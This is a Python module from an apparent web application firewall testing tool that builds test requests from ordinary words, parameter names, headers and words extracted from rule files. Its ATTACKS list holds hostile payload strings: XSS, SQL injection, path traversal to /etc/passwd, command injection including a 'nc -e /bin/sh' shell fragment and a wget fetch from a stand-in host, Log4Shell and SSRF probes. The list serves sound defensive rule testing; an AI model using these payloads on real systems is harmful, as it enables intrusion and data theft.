"""What generated requests are made of: words of people, attacks, and words of the rules."""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from waf_builder.crs.compile.reading import Part, read_rules
from waf_builder.crs.compile.refusal import Refusal
from waf_builder.seclang import Rule, read_text
from waf_builder.verify.aims import Aim, aims_of, pattern_of, words_of_list

ORDINARY = (
    *("search", "name", "value", "page", "id", "order", "select", "from", "update", "bonjour"),
    *("système", "été", "l'avion", "a@b.example", "10.50", "2024-01-31", "Grüße", "日本", "x"),
    *("hello world", "https://www.example.com/a?b=c", "index.html", "/xhtml", "data", "true"),
)

ATTACKS = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"),
    *("' OR 1=1 -- ", "1 UNION SELECT a,b FROM users", "x' AND sleep(5)#", "1;DROP TABLE a"),
    *("../../../../etc/passwd", "..;/..;/", "/.env", "file:///etc/passwd", "a.bak", ".git/config"),
    *("; cat /etc/passwd", "$(id)", "`whoami`", "| nc -e /bin/sh", "wget http://a.example/x"),
    *("<?php system('id'); ?>", 'O:8:"stdClass":1:{}', "base64_decode(", "phpinfo()", "_POST[a]"),
    *("${jndi:ldap://a.example/x}", "java.lang.Runtime", "rO0ABXNyAA", "{{7*7}}", "#{1+1}"),
    *("http://127.0.0.1/x.php?", "http://169.254.169.254/", "sqlmap/1.0", "nikto", "() { :; };"),
    *("a\r\nSet-Cookie: b=c", "a\nb: c", "\x00", "%00", "%u0027", "\\u0027", "\\x3cscript"),
    *("document.cookie", "self['alert']", "+ADw-script+AD4-", "![]", "!![]", "\u00bcscript\u00be"),
    *('{"$gt": 1}', "admin'--", "1 xor 1=1", "0x414141", "eval(atob('YQ=='))", "-moz-binding"),
    *("powershell -enc", "cmd.exe /c dir", "%windir%", "[].sort.call`${alert}1337`", "a=b&c[]=d"),
)

NAMES = (
    *("id", "q", "name", "user[name]", "page", "session", "token", "a", "b", "JSESSIONID", "file"),
    *("__utmz", "x.filename", "password", "phpsessid", "__proto__"),
)

EXCLUDED = ("_ga", "_ga_X1", "__gads", "FCCDCF", "pbjs-x", "_pk_ref.1", "json.profile")
"""Names that rules make exceptions for."""

HEADERS = (
    *("User-Agent", "Referer", "X-Forwarded-For", "Accept", "Accept-Language", "Range", "Origin"),
    *("X-File-Name", "Accept-Charset", "If", "Proxy", "X-Method-Override", "Authorization"),
    *("Cache-Control", "Accept-Encoding", "Content-Encoding", "X.Filename", "Via"),
)

_NAME = re.compile(r"[\w.-]{2,40}")


@dataclass(frozen=True)
class Words:
    """What to choose from.

    listed: words of the rule set's lists, list by list. expressions: those of its rules.
    decoded: what is undone, in small letters, before one of them is looked for.
    excluded: names that its rules make exceptions for. aims: what each rule looks for, and where.
    """

    ordinary: tuple[str, ...] = ORDINARY
    attacks: tuple[str, ...] = ATTACKS
    listed: tuple[tuple[str, ...], ...] = (ATTACKS,)
    expressions: tuple[str, ...] = ("(?:a|b)c",)
    decoded: Mapping[str, tuple[str, ...]] = field(default_factory=dict)
    names: tuple[str, ...] = NAMES
    excluded: tuple[str, ...] = EXCLUDED
    aims: tuple[Aim, ...] = ()


def words_of(rules: Path) -> Words:
    """Return the words for a rule set: also those of its rules and lists."""
    files = {file.name: read_text(file) for file in sorted(rules.glob("*.data"))}
    parts = [Part(file.name, read_text(file), ours=True) for file in sorted(rules.glob("*.conf"))]
    try:
        entries = read_rules(parts).entries
    except Refusal:
        return Words()
    found = [rule for entry in entries for rule in entry.rules]
    listed = [words_of_list(rule.operator, files) for rule in found if rule.operator]
    patterns: dict[str, tuple[str, ...]] = {}
    for rule in found:
        pattern = pattern_of(rule.operator) if rule.operator else ""
        if pattern:
            undone = (value.lower() for value in rule.values("t"))
            patterns[pattern] = (*patterns.get(pattern, ()), *undone)
    names, excluded = _names(found)
    return Words(
        listed=tuple(dict.fromkeys(filter(None, listed))) or (ATTACKS,),
        expressions=tuple(patterns) or Words.expressions,
        decoded=patterns,
        names=(*NAMES, *names),
        excluded=(*EXCLUDED, *excluded),
        aims=tuple(aims_of(entries, files)),
    )


def _names(rules: Iterable[Rule]) -> tuple[Iterable[str], Iterable[str]]:
    """Return members of collections that rules look at, and those that they leave out.

    Of an expression the first piece that may be a name.
    """
    found: dict[bool, dict[str, None]] = {True: {}, False: {}}
    for rule in rules:
        for variable in rule.variables:
            keyed = variable.collection.startswith(("ARGS", "REQUEST_COOKIES"))
            if keyed and variable.selector and (name := _NAME.search(variable.selector)):
                found[variable.negated][name[0]] = None
    return found[False], found[True]
